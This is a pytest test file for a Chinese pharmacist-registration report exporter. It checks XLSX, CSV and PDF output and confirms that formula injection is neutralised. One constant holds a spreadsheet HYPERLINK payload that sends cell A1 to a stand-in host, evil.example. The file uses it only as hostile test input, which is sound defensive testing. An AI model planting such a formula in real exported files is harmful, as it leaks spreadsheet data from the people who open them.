"""Reports written as files, read back as a person's spreadsheet or PDF reader would."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pypdf
import pypdfium2
import pytest

from pharmreg.documents import exports, write_export
from pharmreg.kit.report_tables import Chart, Column, ReportTable
from tests.documents.pdfs import pdf_text

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
NOW = datetime(2026, 12, 8, 13, 5)
CITIES = ("广州市", "深圳市", "珠海市", "汕头市", "佛山市", "韶关市")


def _table(
    *, chart: Chart | None = None, columns: int = 0, parts: tuple[ReportTable, ...] = ()
) -> ReportTable:
    extra = tuple(Column(f"x{i}", f"附加指标{i}", "int") for i in range(columns))
    rows = tuple(
        (
            f"4401{n:02d}",
            city,
            1000 + 37 * n,
            (1000 + 37 * n) / 8000,
            Decimal("5.6") + n,
            date(2026, 11, 30),
            *(n * i for i in range(columns)),
        )
        for n, city in enumerate(CITIES, 1)
    )
    rows += (("0012", HOSTILE, -6, 0.0, Decimal("0.1"), None) + (0,) * columns,)
    return ReportTable(
        title="广东省执业药师注册月报（2026年11月）",
        subtitle="统计期间：2026年11月1日至2026年11月30日",
        columns=(
            Column("code", "区划代码"),
            Column("city", "地区"),
            Column("count", "注册人数", "int"),
            Column("share", "占比", "percent"),
            Column("density", "每万人口", "decimal"),
            Column("day", "数据截至", "date"),
            *extra,
        ),
        rows=rows,
        totals=("", "合计", sum(r[2] for r in rows), 1.0, None, None) + (None,) * columns,
        notes=("数据截至 2026-11-30 24:00（广东省）", "+1 表示较上月增加"),
        chart=chart,
        parts=parts,
    )


def test_xlsx_keeps_text_as_text_and_numbers_as_numbers() -> None:
    data = write_export(_table(), "xlsx", generated_at=NOW).content
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value is not None}
    assert sheet["A1"].value == "广东省执业药师注册月报（2026年11月）"
    assert "生成时间：2026-12-08 13:05" in cells
    header = next(r for r in sheet.iter_rows() if r[0].value == "区划代码")[0].row
    assert sheet.freeze_panes == f"A{header + 1}"
    first = header + 1
    assert sheet.cell(first, 1).value == "440101" and sheet.cell(first, 1).data_type == "s"
    assert sheet.cell(first, 3).value == 1037 and sheet.cell(first, 3).data_type == "n"
    assert sheet.cell(first, 4).number_format == "0.0%"
    assert sheet.cell(first, 5).value == pytest.approx(6.6)
    assert sheet.cell(first, 6).is_date and sheet.cell(first, 6).value.date() == date(2026, 11, 30)
    # A leading zero, a formula and a sign at the start of a note: all stay strings.
    assert cells["0012"].data_type == "s"
    assert cells[HOSTILE].data_type == "s"
    assert cells["+1 表示较上月增加"].data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    totals = sheet.cell(first + len(CITIES) + 1, 2)
    assert totals.value == "合计" and totals.font.bold
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["D"].width


def test_xlsx_formula_guard_holds_in_the_raw_file() -> None:
    raw = write_export(_table(), "xlsx", generated_at=NOW).content
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet


def test_xlsx_puts_each_part_on_its_own_sheet() -> None:
    part = ReportTable(
        title="按执业领域", columns=(Column("field", "领域"), Column("n", "人数", "int")), rows=(("零售", 5),)
    )
    data = write_export(_table(parts=(part, part)), "xlsx", generated_at=NOW).content
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["广东省执业药师注册月报（2026年11月）", "按执业领域", "按执业领域_2"]
    assert book["按执业领域"]["A1"].value == "按执业领域"


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030"])
def test_csv_has_a_header_and_guards_formulas(encoding: str) -> None:
    written = write_export(_table(), "csv", generated_at=NOW, encoding=encoding)
    raw = written.content
    assert written.content_type == f"text/csv; charset={encoding}"
    assert raw.startswith(b"\xef\xbb\xbf") == (encoding == "utf-8")
    text = raw.decode("utf-8-sig" if encoding == "utf-8" else "gb18030")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["区划代码", "地区", "注册人数", "占比", "每万人口", "数据截至"]
    assert rows[1] == ["440101", "广州市", "1037", "12.96%", "6.6", "2026-11-30"]
    hostile = next(r for r in rows if r[0] == "0012")
    assert hostile[1] == "'" + HOSTILE and hostile[2] == "-6"
    assert rows[-1][1] == "合计"


def test_csv_guards_every_formula_start() -> None:
    table = ReportTable(
        title="t",
        columns=(Column("v", "值"),),
        rows=(("=1+1",), ("+1",), ("-1",), ("@SUM(A1)",), ("\tx",), ("\rx",), ("正常",)),
    )
    text = write_export(table, "csv", generated_at=NOW).content.decode("utf-8-sig")
    values = [r[0] for r in csv.reader(io.StringIO(text, newline=""))][1:]
    assert values == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "正常"]


def _chart_pixels(pdf: bytes, page: int = 0) -> tuple[int, int]:
    """Coloured pixels (chart fills, not black text or grey rules) on a page, and all pixels."""
    image = pypdfium2.PdfDocument(pdf)[page].render(scale=2).to_pil().convert("RGB")
    saturation = image.convert("HSV").getchannel("S").histogram()
    return sum(saturation[80:]), image.width * image.height


@pytest.mark.parametrize("kind", ["bar", "line", "pie"])
def test_pdf_has_title_figures_and_draws_the_chart(kind: str) -> None:
    chart = Chart(kind, "city", ("count",))  # type: ignore[arg-type]
    pdf = write_export(_table(chart=chart), "pdf", generated_at=NOW).content
    text = pdf_text(pdf)
    assert "广东省执业药师注册月报（2026年11月）" in text
    assert "统计期间" in text and "1037" in text and "13.0%" in text and "440101" in text
    assert "生成时间：2026-12-08" in text and "第1页" in text
    assert HOSTILE.replace(" ", "") in text
    coloured, _ = _chart_pixels(pdf)
    assert coloured > 2000, "the chart drew nothing"
    without = write_export(_table(), "pdf", generated_at=NOW).content
    assert _chart_pixels(without)[0] < 500


def test_pdf_turns_to_landscape_for_wide_tables_and_repeats_the_header() -> None:
    narrow = pypdf.PdfReader(io.BytesIO(write_export(_table(), "pdf", generated_at=NOW).content))
    box = narrow.pages[0].mediabox
    assert box.width < box.height
    many = ReportTable(
        title="各市注册人数明细",
        columns=tuple(Column(f"c{i}", f"指标{i}", "int") for i in range(10)),
        rows=tuple(tuple(range(r, r + 10)) for r in range(120)),
    )
    wide = pypdf.PdfReader(io.BytesIO(write_export(many, "pdf", generated_at=NOW).content))
    assert wide.pages[0].mediabox.width > wide.pages[0].mediabox.height
    assert len(wide.pages) > 1
    assert all("指标9" in page.extract_text() for page in wide.pages)
    assert "第2页" in wide.pages[1].extract_text().replace(" ", "")


def test_pdf_lists_parts_with_their_own_charts() -> None:
    part = ReportTable(
        title="按执业领域",
        columns=(Column("field", "领域"), Column("n", "人数", "int")),
        rows=(("零售", 714067), ("批发", 46015), ("生产", 5441), ("医疗", 23586)),
        chart=Chart("pie", "field", ("n",)),
    )
    pdf = write_export(_table(parts=(part,)), "pdf", generated_at=NOW).content
    text = pdf_text(pdf)
    assert "按执业领域" in text and "714067" in text and "90.5%" in text
    assert _chart_pixels(pdf, len(pypdf.PdfReader(io.BytesIO(pdf)).pages) - 1)[0] > 2000


def test_empty_report_still_writes_every_format() -> None:
    table = ReportTable(
        title="空报表",
        columns=(Column("city", "地区"), Column("n", "人数", "int")),
        rows=(),
        chart=Chart("bar", "city", ("n",)),
    )
    for fmt in ("xlsx", "pdf", "csv"):
        assert write_export(table, fmt, generated_at=NOW).content
    assert "无数据" in pdf_text(write_export(table, "pdf", generated_at=NOW).content)


def test_pdf_cuts_very_long_tables_and_says_so(monkeypatch) -> None:
    monkeypatch.setattr(exports, "PDF_MAX_ROWS", 3)
    text = pdf_text(write_export(_table(), "pdf", generated_at=NOW).content)
    assert "本表共7行，PDF只列出前3行；完整数据请导出Excel或CSV。" in text
    assert "440103" in text and "440104" not in text
